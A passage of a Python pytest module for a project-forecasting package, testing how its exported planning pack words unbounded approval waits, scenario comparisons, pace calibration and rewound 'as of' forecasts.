    assert (summary.loc[waits, "change: one more pm"] == BOUNDED_AGAIN).all()  # said in words, as the pack
    assert (comparison.deltas().loc[waits, "one more pm"] == -np.inf).all()
    assert summary.loc["PM-pool utilisation", "change: pms elsewhere"] > 0  # the numbers beside still change
    table = _block(openpyxl.load_workbook(pack.path)["Scenarios"], "Each scenario, then its change against the "
                   "baseline").set_index("measure")
    csv_table = pd.read_csv(tmp_path / "pack-scenarios.csv", encoding="utf-8-sig").set_index("measure")
    for shown in (table, csv_table):
        for wait in ("approval wait P50 (working days, queue model)", "approval wait P90 (working days, "
                     "queue model)"):
            assert shown.at[wait, "baseline"] == shown.at[wait, "same"] == UNBOUNDED_WAIT
            assert shown.at[wait, "change: same"] == shown.at[wait, "change: pms elsewhere"] == UNBOUNDED_BOTH
            assert shown.at[wait, "change: one more pm"] == BOUNDED_AGAIN
        assert not shown.astype(str).isin(["0", "0.0", "nan", "inf", "-inf"]).loc[
            shown.index.str.startswith("approval wait"), [c for c in shown.columns if c.startswith("change")]].any().any()
    html = comparison._repr_html_()
    assert UNBOUNDED_BOTH in html and "nan" not in html.lower()  # as the notebook shows the comparison


def test_the_scenarios_notes_reach_the_assumptions_once_each(tmp_path):
    # the scenarios' fallbacks and judgement calls ("the baseline's PM pool is over capacity from ...", a change
    # "unbounded in both") were on the Scenarios sheet only; the guide has every fallback in the Assumptions
    from pmo_forecast.core.labels import UNBOUNDED_BOTH
    from pmo_forecast.scenarios.spec import Scenario

    tasks, projects, people, requests = small_org()
    pms = people.index[people[S.ROLE] == S.PM_ROLE]
    people.loc[pms[2:], S.END] = pd.Timestamp("2026-09-15")  # two PMs left: over capacity from the 16th
    scenarios = [Scenario(name="same", description="nothing changed"),
                 Scenario(name="pms elsewhere", availability=[{"role": S.PM_ROLE, "availability": 0.5}])]
    pack = X.export_planning_pack(tmp_path / "pack.xlsx", tasks=tasks, projects=projects, people=people,
                                  requests=requests, scenarios=scenarios, n_trials=200, random_state=0,
                                  progress=False, history=False)
    rows = _block(openpyxl.load_workbook(pack.path)["Assumptions"], "Model settings")
    said = rows.loc[rows["setting"] == "scenarios: note", "value"].tolist()
    over = [v for v in said if "the baseline's PM pool is over capacity from 2026-09-16" in v]
    assert len(over) == 1 and over[0].startswith("every scenario: the baseline's PM pool")  # once, not three times
    assert "'same' changes nothing: it is the plan as it stands (the baseline)" in {v.partition(": ")[2] for v in said}
    both = [v for v in said if UNBOUNDED_BOTH in v]
    assert both == [f"same, pms elsewhere: approval wait P50 (working days, queue model), approval wait P90 "
                    f"(working days, queue model): "
                    f"{UNBOUNDED_BOTH}: the baseline's PM pool and the scenario's are both over capacity, so their "
                    "change in wait is not measured"]
    assert len(said) == len(set(said))
    notes = pack.forecasts["comparison"].notes()
    assert list(notes.columns) == ["note", "scenarios"] and notes["note"].is_unique


def test_with_every_pm_gone_the_scenarios_and_the_capacity_sheet_both_say_the_pool_has_no_server(tmp_path):
    # every PM leaving per the people table: the scenarios took the pool as one PM, the Capacity sheet left the
    # request hours on nobody's row, and the Assumptions said how the two differed. No PM serving is no server:
    # the scenarios' waits are without bound from that date, the Capacity sheet leaves the hours unserved, and
    # one note says so (and at 0% availability the Capacity sheet had put the hours on PMs with no capacity)
    from pmo_forecast.forecasting.workload import PM_REQUESTS
    from pmo_forecast.scenarios.spec import Scenario

    tasks, projects, people, requests = small_org()
    pms = people[S.ROLE] == S.PM_ROLE
    gone = people.copy()
    gone.loc[pms, S.END] = pd.Timestamp("2026-09-15")
    away = people.copy()
    away.loc[pms, [S.AVAILABILITY_CHANGE, S.AVAILABILITY_AFTER]] = [pd.Timestamp("2026-09-16"), 0.0]
    for table, why in ((gone, " (no PM employed)"), (away, " (the PMs employed are at 0%)")):
        with pytest.warns(DataQualityWarning, match="^" + re.escape(
                "on 13 working days of the plan (from 2026-09-16) no PM in the people table serves the PM pool (none "
                "employed at availability above 0 and hours a week above 0): the pool has no server then, so 14.6 h "
                f"of request handling are unserved, on nobody's row{why}, and its approval waits grow without "
                "bound") + "$"):
            pack = X.export_planning_pack(tmp_path / "pack.xlsx", tasks=tasks, projects=projects, people=table,
                                          requests=requests, scenarios=[Scenario(name="same")], n_trials=200,
                                          random_state=0, progress=False, history=False)
        w = pack.forecasts["scenarios"][0].waits_over_time
        after = np.asarray(w.index + pd.Timedelta(days=2) >= pd.Timestamp("2026-09-16"))
        assert after.any() and not after.all()
        np.testing.assert_array_equal(w["servers"], np.where(after, 0, 8))
        assert (w.loc[after, ["utilisation", "wait_p50_days", "wait_p90_days"]] == np.inf).all().all()
        assert np.isfinite(w.loc[~after, "wait_p90_days"]).all()
        # the Capacity sheet: no request hours on anyone from the 16th, so the PMs' row is blank (no hours, no
        # capacity) from the week after; at 0% it read inf, the hours on PMs with no capacity
        days = pack.forecasts["workload"].tasks_days
        assert (days["project"] == PM_REQUESTS).any()
        book = openpyxl.load_workbook(pack.path)
        util = _block(book["Capacity"], "Utilisation by week (demand / capacity), 12 weeks back to 26 ahead").set_index("week")
        assert util.loc[util.index >= pd.Timestamp("2026-09-21"), S.PM_ROLE].isna().all()
        assert (util.loc[util.index < pd.Timestamp("2026-09-14"), S.PM_ROLE].dropna().iloc[-4:] > 0).all()
        rows = _block(book["Assumptions"], "Model settings")
        said = rows["value"].astype(str)
        assert not said.str.contains("one PM").any()
        # six projects whose approvals waited 2% of their working hours cannot tell whether approvals hold the work
        assert "the history cannot tell: every approval taken as blocking, the upper bound" in said.tolist()
        assert said.str.contains("; every approval taken as holding the work while it waits (the upper bound): the "
                                 "history cannot tell how many do (too little history: the 95% interval of the rate "
                                 "while approvals wait, 0.71-1.47 of the usual, is too wide)", regex=False).any()
        assert said.loc[said.str.contains("no server")].tolist() == [
            "every scenario: the people table leaves no project manager (role 'pm') serving the PM pool from "
            "2026-09-16 (every one gone or at 0%): the pool has no server from then unless a scenario adds one, so "
            "approval requests are unserved and their waits grow without bound from that date (unbounded approval "
            "waits and PM-pool utilisation in the scenarios, and the request hours on nobody's row on the Capacity "
            "sheet)",
            "every scenario: the baseline's PM pool has no server from 2026-09-16 (the people table's PMs): no change "
            "in approval wait can be measured against its waits without bound, so the finish dates take none at "
            "approval gates from then",
            next(v for v in said if v.startswith("on ") and "no server then" in v)]
        capacity = said.loc[said.str.contains("no server then")].item()
        assert re.search(r"from 2026-09-16\) no PM in the people table serves the PM pool \(none employed at "
                         r"availability above 0 and hours a week above 0\): the pool has no server then, so [\d,.]+ h of "
                         rf"request handling are unserved, on nobody's row{re.escape(why)}, and its approval waits grow "
                         "without bound", capacity), capacity


def test_a_pool_whose_pms_come_back_is_not_said_to_wait_without_bound_on_the_assumptions_sheet(tmp_path):
    # every PM on leave twice in a scenario: the Assumptions said the approval waits "grow without bound" from the
    # first gap (read from the weekly steady-state table) beside the note that the same gates wait for the PMs'
    # return and the backlog, a bounded wait. "Without bound" is for a gap no PM comes back from
    from pmo_forecast.scenarios.spec import AvailabilityChange, Scenario

    tasks, projects, people, requests = small_org()

    def away(name, *dates):  # every PM at 0% from the first date, back at 90% from the second, and so on
        return Scenario(name=name, availability=[AvailabilityChange(0.0 if k % 2 == 0 else 0.9, role=S.PM_ROLE,
                                                                    date=pd.Timestamp(d))
                                                 for k, d in enumerate(dates)])

    pack = X.export_planning_pack(tmp_path / "pack.xlsx", tasks=tasks, projects=projects, people=people,
                                  requests=requests, n_trials=200, random_state=0, progress=False, history=False,
                                  scenarios=[away("twice", "2026-08-03", "2026-08-17", "2026-10-05", "2026-10-19"),
                                             away("for good", "2026-08-03", "2026-08-17", "2026-10-05")])
    rows = _block(openpyxl.load_workbook(pack.path)["Assumptions"], "Model settings")
    said = rows.loc[rows["setting"] == "scenarios: note", "value"].astype(str)
    serving = said.loc[said.str.contains("serving the PM pool")].tolist()
    assert serving == [
        "twice: the scenario leaves no project manager (role 'pm') serving the PM pool from 2026-08-03 until "
        "2026-08-17 and from 2026-10-05 until 2026-10-19 (every one gone or at 0%): the pool has no server then, so "
        "approval requests wait unserved until a PM is back and then behind the requests that piled up meanwhile, a "
        "bounded wait (the weekly steady-state approval waits and PM-pool utilisation in this scenario read unbounded "
        "in the weeks without a server, and none of the request hours on its PMs)",
        "for good: the scenario leaves no project manager (role 'pm') serving the PM pool from 2026-08-03 until "
        "2026-08-17, and for good from 2026-10-05 (every one gone or at 0%): the pool has no server then, so approval "
        "requests wait unserved until a PM is back and then behind the requests that piled up meanwhile, a bounded "
        "wait; from 2026-10-05, with no PM back, their waits grow without bound (the weekly steady-state approval "
        "waits and PM-pool utilisation in this scenario read unbounded in the weeks without a server, and none of "
        "the request hours on its PMs)"]
    # the scenario whose PMs come back: nothing of it waits without bound, and its gap note agrees
    twice = said.loc[said.str.startswith("twice: ")]
    assert not twice.str.contains("without bound").any()
    assert twice.str.contains("no server from 2026-08-03 until 2026-08-17 and from 2026-10-05 until 2026-10-19: a "
                              "project passing an approval gate in one of those gaps waits until the gap ends").any()


def test_a_people_table_whose_pool_is_served_again_is_not_said_to_wait_without_bound(tmp_path):
    # every PM gone after 15 September and a PM starting on 1 October: the Capacity note and the scenarios' note
    # said the approval waits "grow without bound" beside the note that the baseline's gates wait for that date
    # and the backlog. A pool served again waits a bounded time, in every note of the Assumptions sheet
    from pmo_forecast.scenarios.spec import Scenario

    tasks, projects, people, requests = small_org()
    pms = people[S.ROLE] == S.PM_ROLE
    people.loc[pms, S.END] = pd.Timestamp("2026-09-15")
    new = people.loc[pms].iloc[[0]].assign(**{S.PERSON: "New PM", S.START: pd.Timestamp("2026-10-01"),
                                              S.END: pd.NaT})
    people = pd.concat([people, new], ignore_index=True)
    with pytest.warns(DataQualityWarning, match="^" + re.escape(
            "on 11 working days of the plan (from 2026-09-16) no PM in the people table serves the PM pool (none "
            "employed at availability above 0 and hours a week above 0): the pool has no server then, so 12.4 h of "
            "request handling are unserved, on nobody's row (no PM employed), and its approval requests wait for a "
            "PM's return and then behind the backlog (a bounded wait)") + "$"):
        pack = X.export_planning_pack(tmp_path / "pack.xlsx", tasks=tasks, projects=projects, people=people,
                                      requests=requests, scenarios=[Scenario(name="same")], n_trials=200,
                                      random_state=0, progress=False, history=False)
    rows = _block(openpyxl.load_workbook(pack.path)["Assumptions"], "Model settings")
    said = rows["value"].astype(str)
    gap = said.loc[said.str.contains("no server|serving the PM pool")].tolist()
    assert not any("without bound" in v for v in gap), gap
    assert gap[0] == (
        "every scenario: the people table leaves no project manager (role 'pm') serving the PM pool from 2026-09-16 "
        "until 2026-10-01 (every one gone or at 0%): the pool has no server then unless a scenario adds one, so "
        "approval requests wait unserved until a PM is back and then behind the requests that piled up meanwhile, "
        "a bounded wait (the weekly steady-state approval waits and PM-pool utilisation in the scenarios read "
        "unbounded in the weeks without a server, and the request hours on nobody's row on the Capacity sheet)")
    # the gap is the people table's, so the baseline's: said once as such, not as the scenario's moving its finishes
    assert gap[1] == (
        "every scenario: the baseline's PM pool has no server from 2026-09-16 until 2026-10-01 (the people table's "
        "PMs): its approval gates then wait until that date and behind the approvals that piled up meanwhile; the "
        "baseline's finish dates (the forecast, learnt from the history) do not take that wait, the scenarios' take "
        "only their change in wait against it")
    assert not any(v.startswith("every scenario: the scenario's PM pool has no server") for v in gap), gap
    runs = {r.scenario.name: r for r in pack.forecasts["comparison"].results}
    assert set(runs) == {"baseline", "same"}
    np.testing.assert_array_equal(runs["same"].finish_days, runs["baseline"].finish_days)
    capacity = next(v for v in gap if v.startswith("on "))
    assert re.fullmatch(r"on 11 working days of the plan \(from 2026-09-16\) no PM in the people table serves the PM "
                        r"pool \(none employed at availability above 0 and hours a week above 0\): the pool has no "
                        r"server then, so [\d,.]+ h of request handling are unserved, on nobody's row \(no PM "
                        r"employed\), and its approval requests wait for a PM's return and then behind the backlog "
                        r"\(a bounded wait\)", capacity), capacity


def test_a_pm_keeping_the_pool_within_capacity_moves_the_finishes_past_its_first_gates():
    # the case above: 14 approvals a month, the baseline's pool over capacity from 16 September (day 56). One
    # more PM bounded the waits again but moved no P80 finish (every change 0): only the first 24 gates of a
    # schedule, its first 35 working days, carried the change in wait
    from pmo_forecast import compare_scenarios, run_scenario
    from pmo_forecast.scenarios.spec import Hire, Scenario

    tasks, projects, people, requests = small_org()
    pms = people.index[people[S.ROLE] == S.PM_ROLE]
    people = people.copy()
    people.loc[pms[2:], S.END] = pd.Timestamp("2026-09-15")
    data = {"tasks": tasks, "projects": projects, "people": people, "requests": requests}
    base, more = (run_scenario(sc, data, n_trials=200, random_state=0) for sc in (
        Scenario(), Scenario(name="one more pm", hires=(Hire("New PM", S.PM_ROLE, "2026-07-01"),))))
    assert more.gates_per_month == pytest.approx(640 / 44, rel=0.01) and more.approval_waits_left_out == ""
    d = compare_scenarios([base, more]).deltas()["one more pm"]
    # PRJ-07 and PRJ-08 finish by 31 August, before the pool goes over capacity; PRJ-06's P80 is 3 November
    assert base.projects.loc["PRJ-06", "finish_p80"] == pd.Timestamp("2026-11-03")
    assert (d["P80 finish PRJ-07"], d["P80 finish PRJ-08"]) == (0, 0)
    assert d["P80 finish PRJ-06"] == -42  # business days earlier: the baseline's backlog it no longer grows


def test_the_results_show_an_unbounded_wait_in_the_words_the_pack_writes():
    # the pack wrote UNBOUNDED_WAIT / BOUNDED_AGAIN for an infinite wait, while a result's summary() and the
    # notebook's comparison table (summary(), _repr_html_) showed inf and -inf; values() and deltas() keep numbers
    from pmo_forecast import compare_scenarios, run_scenario
    from pmo_forecast.core.labels import BOUNDED_AGAIN, UNBOUNDED_BOTH, UNBOUNDED_WAIT
    from pmo_forecast.scenarios.spec import Hire, Scenario

    tasks, projects, people, requests = small_org()
    pms = people.index[people[S.ROLE] == S.PM_ROLE]
    people = people.copy()
    people.loc[pms[2:], S.END] = pd.Timestamp("2026-09-15")  # two PMs left: over capacity from the 16th
    data = (tasks, projects, people, requests)
    base, same, more = (run_scenario(sc, data, n_trials=200, random_state=0) for sc in (
        Scenario(), Scenario(name="same"), Scenario(name="one more pm", hires=(Hire("New PM", S.PM_ROLE, "2026-07-01"),))))
    waits = ["approval wait P50 (working days)", "approval wait P90 (working days)"]
    assert base.summary().loc[waits, "value"].tolist() == [UNBOUNDED_WAIT, UNBOUNDED_WAIT]
    assert base.summary().at["PMs in the pool", "value"] == 2  # the rows beside keep their numbers
    assert more.summary().loc[waits, "value"].tolist() == pytest.approx([4.3168, 16.5220], abs=1e-4)
    assert base.approval_wait == {"p50": np.inf, "p90": np.inf}
    comparison = compare_scenarios([base, same, more])
    summary = comparison.summary()
    for wait in waits:
        assert summary.loc[wait].tolist() == [UNBOUNDED_WAIT, UNBOUNDED_WAIT, pytest.approx(more.approval_wait[
            wait.split()[2].lower()]), UNBOUNDED_BOTH, BOUNDED_AGAIN]
    # between the percents shown, as the pack shows it; deltas() keeps the raw difference
    assert summary.at["PM-pool utilisation", "change: one more pm"] == -0.29
    assert comparison.deltas().at["PM-pool utilisation", "one more pm"] == pytest.approx(-0.2868, abs=1e-4)
    html = comparison._repr_html_()
    assert html.count(f"<td>{UNBOUNDED_WAIT}</td>") == 4 and html.count(f"<td>{BOUNDED_AGAIN}</td>") == 2
    assert "inf<" not in html and "inf<" not in base._repr_html_() and f"<td>{UNBOUNDED_WAIT}</td>" in base._repr_html_()
    assert (comparison.values().loc[waits, ["baseline", "same"]] == np.inf).all().all()  # numbers: their contract
    assert comparison.deltas().loc[waits].to_numpy().tolist() == [[0.0, -np.inf], [0.0, -np.inf]]


def test_the_pace_row_and_the_capacity_used_say_the_same_window_beyond_the_datas_last_day(tmp_path):
    # a forecast date 200 days after the data's last day: the calibrated capacity measures the pace up to that
    # last day (team 0.6x in 'capacity used'), but the row beside it showed 1.0, the fallback of the empty 13
    # weeks before the forecast date, as if measured; and --pace auto fell back to stated capacity (warned) while
    # the Assumptions said only "stated (hours_per_week x availability), pace 1"
    from pmo_forecast import estimate_pace
    from pmo_forecast.core.as_of import infer_as_of

    tasks, projects, people, requests = small_org()
    last = infer_as_of(tasks)
    as_of = (last + pd.Timedelta(days=200)).normalize()
    pool = estimate_pace(tasks, people, as_of=last).attrs["pool"]
    aging = ("6 open tasks have been under way longer than 99% of finished tasks took from start to finish (9 working "
             "days), oldest first: PRJ-07-119 (started 2026-06-24, 0 h booked, estimate 21 h); PRJ-06-166 (started "
             "2026-06-26, 0 h booked, estimate 40 h); PRJ-08-156 (started 2026-06-29, 0 h booked, estimate 9.75 h) "
             "and 3 more. Each is forecast as still running, at least at its booked hours: 84 h still to do on them "
             "at P50, 8% of the open work. If they are finished or abandoned, close or cancel them in the tracker "
             "(pmo_forecast.aging_work lists them)")
    packs = {}
    for pace in ("calibrated", "auto"):
        with warnings.catch_warnings(), pytest.warns((DataQualityWarning, SmallSampleWarning)) as caught:
            warnings.filterwarnings("ignore", message=FEW_TRIALS, category=SettingsWarning)  # 100 trials, to be quick
            packs[pace] = X.export_planning_pack(tmp_path / f"{pace}.xlsx", tasks=tasks, projects=projects,
                                                 people=people, as_of=as_of, n_trials=100, random_state=0,
                                                 progress=False, history=False, pace=pace)
        # as_of 200 days after the data's last day: the work under way is old; auto finds nothing finished in the
        # pace window and falls back to stated capacity
        assert [(w.category, str(w.message)) for w in caught] == [(DataQualityWarning, aging)] + (
            [(SmallSampleWarning, "no finished work in the pace window: pace taken as 1 (stated capacity)")]
            if pace == "auto" else [])
    rows = {}
    for pace, pack in packs.items():
        settings = _block(openpyxl.load_workbook(pack.path)["Assumptions"], "Model settings").set_index("setting")
        rows[pace] = settings["value"]
    key = (f"pace delivered in the last 13 weeks, to {last:%Y-%m-%d}, the data's last day (share of stated "
           "capacity, whole team; the calibrated capacity starts from it)")
    assert rows["calibrated"][key] == round_half_away(pool, 2)
    assert (f"delivered pace (team {fixed(rows['calibrated'][key], 2)} of stated capacity)"
            in rows["calibrated"]["finish dates: capacity used"])
    assert rows["auto"]["finish dates: capacity used"] == ("stated capacity (pace 1: no finished work in the 13 weeks "
                                                           "before the forecast date to measure the delivered pace on)")
    assert rows["auto"]["pace delivered in the last 13 weeks (share of stated capacity, whole team; the calibrated "
                        "capacity starts from it)"] == ("not measured: no finished work in those weeks (pace 1, "
                                                        "the stated capacity)")


def test_the_pace_rows_measure_hides_only_the_fallback_its_row_says(tmp_path, monkeypatch):
    # the Assumptions' pace row measures the pace again: a filter on every SmallSampleWarning around it hid any
    # word of that measure; only "no finished work in the pace window" is the row's own ("not measured: ...")
    from pmo_forecast.core.exceptions import warn
    from pmo_forecast.reporting import assumptions_sheet

    measure = assumptions_sheet.estimate_pace

    def measured(*args, **kwargs):  # the Assumptions' measure only: the forecasts hold their own reference
        warn("the pace window holds 2 finished tasks", SmallSampleWarning)
        return measure(*args, **kwargs)

    monkeypatch.setattr(assumptions_sheet, "estimate_pace", measured)
    tasks, projects, people, _ = small_org()
    with warnings.catch_warnings(record=True) as caught:
        warnings.simplefilter("always")
        X.export_planning_pack(tmp_path / "pack.xlsx", tasks=tasks, projects=projects, people=people, n_trials=100,
                               random_state=0, progress=False, history=False)
    assert [str(w.message) for w in caught if issubclass(w.category, SmallSampleWarning)
            ].count("the pace window holds 2 finished tasks") == 1


def test_a_rewound_pack_counts_projects_starting_later_as_not_started(tmp_path):
    # --rewind to before two projects started: with no task yet they were reported "an active project with no
    # task" (a data problem) in Data quality and a warning. They had not started: proposed, as the sample and
    # the scenarios call a project starting after the as-of date, and counted in the rewound row.
    from pmo_forecast.core.as_of import infer_as_of
    from pmo_forecast.forecasting.rewind import tasks_as_of

    tasks, projects, people, requests = small_org()
    as_of = infer_as_of(tasks) - pd.Timedelta(days=200)
    later = projects.loc[(projects[S.START] > as_of) & ~projects[S.PROJECT_ID].isin(
        tasks_as_of(tasks, as_of)[S.PROJECT_ID]), S.PROJECT_ID].tolist()
    assert later == ["PRJ-07", "PRJ-08"]  # both active in today's table
    with warnings.catch_warnings(record=True) as caught:
        warnings.simplefilter("always")
        pack = X.export_planning_pack(tmp_path / "pack.xlsx", tasks=tasks, projects=projects, people=people,
                                      requests=requests, as_of=as_of, n_trials=200, random_state=0, progress=False,
                                      rewind=True)
    assert not [str(w.message) for w in caught if "no task in the task table" in str(w.message)]
    quality = pd.read_csv(tmp_path / "pack-data-quality-projects.csv")
    assert "project_without_tasks" not in set(quality["check"])
    rewound = pd.read_csv(tmp_path / "pack-assumptions.csv").set_index("setting")["value"]["as of: rewound"]
    assert (f"; 2 projects starting after {as_of:%Y-%m-%d}, with no task by then, counted as not started yet (status "
            "proposed: no forecast, and no data problem) (PRJ-07, PRJ-08); budgets, due dates") in rewound
    assert not set(later) & set(pack.tables["projects"][S.PROJECT_ID])


def test_a_rewound_pack_says_a_cancelled_project_starting_later_stays_cancelled(tmp_path):
    # --rewind to before a project cancelled now was to start, with no task by then: it stays cancelled (it may
    # have been called off before it started), a judgement the "as of: rewound" note did not say
    from pmo_forecast.core.as_of import infer_as_of

    tasks, projects, people, requests = small_org()
    as_of = infer_as_of(tasks) - pd.Timedelta(days=200)
    projects = projects.assign(**{S.STATUS: projects[S.STATUS].mask(projects[S.PROJECT_ID].eq("PRJ-08"),
                                                                     S.CANCELLED)})
    with warnings.catch_warnings(), pytest.warns((DataQualityWarning, SmallSampleWarning)) as caught:
        warnings.filterwarnings("ignore", message=FEW_TRIALS, category=SettingsWarning)  # 100 trials, to be quick
        pack = X.export_planning_pack(tmp_path / "pack.xlsx", tasks=tasks, projects=projects, people=people,
                                      requests=requests, as_of=as_of, n_trials=100, random_state=0, progress=False,
                                      rewind=True)
    assert [(w.category, str(w.message)) for w in caught] == [  # the sample as it stood on as_of
        (DataQualityWarning, "1 open task has no positive estimate (PRJ-06-122); its project's median estimate is "
                             "used. Estimate it for a better forecast."),
        (SmallSampleWarning, "finish dates: no slip learnt: 7 backdated project-cuts, 6 of them finished (needs 10, "
                             "3 finished at least); the plan's own dates are used")]
    rewound = pd.read_csv(tmp_path / "pack-assumptions.csv").set_index("setting")["value"]["as of: rewound"]
    assert (f"; 1 project starting after {as_of:%Y-%m-%d}, with no task by then, counted as not started yet (status "
            f"proposed: no forecast, and no data problem) (PRJ-07); 1 project starting after {as_of:%Y-%m-%d}, with "
            "no task by then, and cancelled now kept as cancelled (it may have been called off before it started: "
            "there is no telling) (PRJ-08); budgets, due dates") in rewound
    assert "PRJ-08" not in set(pack.tables["projects"][S.PROJECT_ID])


def test_a_pack_says_an_active_project_starting_after_as_of_without_tasks_is_not_started(tmp_path):
    # the (not rewound) pack flagged an active project kicking off after the as-of date, its tasks not in the
    # tracker yet, as project_without_tasks (a data problem: check its id): the pack passes its as-of date, and
    # such a project is said not started, for information; one already started without a task is still warned
    from pmo_forecast.core.as_of import infer_as_of

    tasks, projects, people, _ = small_org()
    as_of = infer_as_of(tasks)
    extra = projects.tail(2).assign(**{S.PROJECT_ID: ["PRJ-09", "PRJ-10"], S.STATUS: S.ACTIVE,
                                       S.START: [as_of + pd.Timedelta(days=30), as_of - pd.Timedelta(days=30)]})
    projects = pd.concat([projects, extra], ignore_index=True)
    with warnings.catch_warnings(record=True) as caught:
        warnings.simplefilter("always")
        X.export_planning_pack(tmp_path / "pack.xlsx", tasks=tasks, projects=projects, people=people,
                               n_trials=200, random_state=0, progress=False)
    # once: the effort and the finish-date forecasts each said it
    assert [w.category for w in caught if str(w.message) == (
        "1 active project has no task in the task table (PRJ-10): no forecast for it; check its project id against "
        "the tasks'.")] == [DataQualityWarning]
    quality = pd.read_csv(tmp_path / "pack-data-quality-projects.csv")
    assert quality[["severity", "check", "id"]].values.tolist() == [["warning", "project_without_tasks", "PRJ-10"],
                                                                    ["info", "project_not_started", "PRJ-09"]]
    assert quality["reason"].iat[1] == (
        f"an active project starting {as_of + pd.Timedelta(days=30):%Y-%m-%d}, after {as_of:%Y-%m-%d} (the as-of "
        "date), with no task yet: not started, so no forecast until its tasks are in the export (no data problem)")
    sheet = openpyxl.load_workbook(tmp_path / "pack.xlsx")["Data quality"]
    texts = [c.value for row in sheet.iter_rows(max_col=1) for c in row if isinstance(c.value, str)]
    assert any("projects: 0 errors, 1 warning on 1 row, 1 for information" in t for t in texts)  # counted, not left unsaid


def test_a_rewound_pack_says_each_warning_once(tmp_path):
    # the effort and the finish-date forecasts each prepare the open work and warn of what is wrong with it: a pack
    # rewound 60 days said "3 open tasks have no positive estimate" twice (Python's default filter hides a repeat
    # from one line, but the package's own catch_warnings blocks between the two reset what it has shown)
    from collections import Counter

    from pmo_forecast.core.as_of import infer_as_of

    tasks, projects, people, requests = small_org()
    as_of = infer_as_of(tasks) - pd.Timedelta(days=60)
    with warnings.catch_warnings(record=True) as caught:
        warnings.simplefilter("always")
        X.export_planning_pack(tmp_path / "pack.xlsx", tasks=tasks, projects=projects, people=people,
                               requests=requests, as_of=as_of, n_trials=200, random_state=0, progress=False,
                               rewind=True)
    said = Counter((w.category, str(w.message)) for w in caught)
    assert [n for (category, text), n in said.items() if category is DataQualityWarning
            and text.startswith("3 open tasks have no positive estimate (PRJ-07-144, PRJ-08-226, PRJ-08-230); "
                                "their project's median estimate is used")] == [1]
    assert [said for said, n in said.items() if n > 1] == []


def test_a_rewound_pack_counts_the_cancelled_tasks_without_a_date(tmp_path):
    # a cancelled task with no finish date may have been cancelled after the cut: there is no telling, so it
    # stays cancelled, said with its count. Known answer: of small_org's 32 undated cancelled tasks, one dated
    # after the cut (reopened) and one before it (kept, dated) leave the others created by then.
    from pmo_forecast.core.as_of import infer_as_of
    from pmo_forecast.forecasting.rewind import tasks_as_of

    tasks, projects, people, _ = small_org()
    as_of = infer_as_of(tasks) - pd.Timedelta(days=60)
    end = as_of + pd.Timedelta(days=1)
    cancelled = tasks.index[tasks[S.STATUS].eq(S.CANCELLED) & (tasks[S.CREATED] < end - pd.Timedelta(days=30))]
    tasks.loc[cancelled[:2], S.FINISHED] = [end + pd.Timedelta(days=5), end - pd.Timedelta(days=5)]
    rewound = tasks_as_of(tasks, as_of)
    undated = rewound[S.STATUS].eq(S.CANCELLED) & rewound[S.FINISHED].isna()
    n = int((tasks[S.STATUS].eq(S.CANCELLED) & tasks[S.FINISHED].isna() & (tasks[S.CREATED] < end)).sum())
    assert int(undated.sum()) == n > 1
    first = S.IN_PROGRESS if tasks.loc[cancelled[0], S.STARTED] < end else S.OPEN  # reopened as it stood
    assert rewound.loc[cancelled[:2], S.STATUS].tolist() == [first, S.CANCELLED]
    with warnings.catch_warnings(), pytest.warns((DataQualityWarning, SmallSampleWarning)) as caught:
        warnings.filterwarnings("ignore", message=FEW_TRIALS, category=SettingsWarning)  # 200 trials, to be quick
        X.export_planning_pack(tmp_path / "pack.xlsx", tasks=tasks, projects=projects, people=people, as_of=as_of,
                               n_trials=200, random_state=0, progress=False, rewind=True)
    assert [(w.category, str(w.message)) for w in caught] == [SAMPLE_NO_ESTIMATE, (  # the sample as of as_of
        DataQualityWarning, "1 open task has been under way longer than 99% of finished tasks took from start to "
        "finish (9 working days), oldest first: PRJ-01-59 (started 2023-12-21, 0 h booked, estimate 3 h). Each is "
        "forecast as still running, at least at its booked hours: 3 h still to do on it at P50, under 1% of the open "
        "work. If it is finished or abandoned, close or cancel it in the tracker (pmo_forecast.aging_work lists it)")]
    rewound_row = pd.read_csv(tmp_path / "pack-assumptions.csv").set_index("setting")["value"]["as of: rewound"]
    assert (f" finished later reopened (their actual hours unknown then), {n:,} cancelled tasks carry no date: kept as "
            f"cancelled (cancelled after {as_of:%Y-%m-%d} or not, there is no telling); ") in rewound_row


def test_a_rewound_pack_keeps_work_in_progress_now_unfinished_whatever_its_finish_date(tmp_path):
    # a due date in the finish column of work in progress: with it before the cut, the rewound pack counted the
    # task done then. Unfinished now, unfinished then; its finish date kept as a planned end, said with its count
    from pmo_forecast.core.as_of import infer_as_of

    tasks, projects, people, _ = small_org()
    as_of = infer_as_of(tasks) - pd.Timedelta(days=60)
    end = as_of + pd.Timedelta(days=1)
    due = tasks.index[tasks[S.STATUS].eq(S.IN_PROGRESS) & (tasks[S.CREATED] < end)][:3]
    assert len(due) == 3
    tasks.loc[due, S.STARTED] = end - pd.Timedelta(days=10)
    tasks.loc[due, S.FINISHED] = end - pd.Timedelta(days=5)
    with warnings.catch_warnings(), pytest.warns((DataQualityWarning, SmallSampleWarning)) as caught:
        warnings.filterwarnings("ignore", message=FEW_TRIALS, category=SettingsWarning)  # 200 trials, to be quick
        X.export_planning_pack(tmp_path / "pack.xlsx", tasks=tasks, projects=projects, people=people, as_of=as_of,
                               n_trials=200, random_state=0, progress=False, rewind=True)
    assert [(w.category, str(w.message)) for w in caught] == [SAMPLE_NO_ESTIMATE]  # as they stood on as_of
    # in the rewound table as the loader has such tasks: unfinished, with a finish date
    quality = pd.read_csv(tmp_path / "pack-data-quality-tasks.csv")
    assert sorted(quality.loc[quality["check"] == "finished_but_not_done", "id"]) == sorted(tasks.loc[due, S.TASK_ID])
    rewound_row = pd.read_csv(tmp_path / "pack-assumptions.csv").set_index("setting")["value"]["as of: rewound"]
    assert (", 3 finish dates of work unfinished now kept as planned ends (due dates, not finishes: the work was "
            "unfinished then too); ") in rewound_row


def test_a_rewound_pack_counts_the_open_tasks_it_cannot_date(tmp_path):
    # without created dates, a project whose only tasks are open with planned starts after the cut is dated from
    # those plans, so the rewind leaves it out, though it may have been in the plan then: when its tasks were
    # added is not known. Left out, as the rule (known_since) says, and counted in the rewound row. Known answer:
    # the 4 open tasks of a project added here (3 with planned starts after the cut, 1 undated)
    from pmo_forecast.core.as_of import infer_as_of
    from pmo_forecast.forecasting.rewind import tasks_as_of

    tasks, projects, people, _ = small_org()
    as_of = infer_as_of(tasks) - pd.Timedelta(days=60)
    new = tasks.loc[tasks[S.STATUS].eq(S.OPEN)].head(4).assign(**{
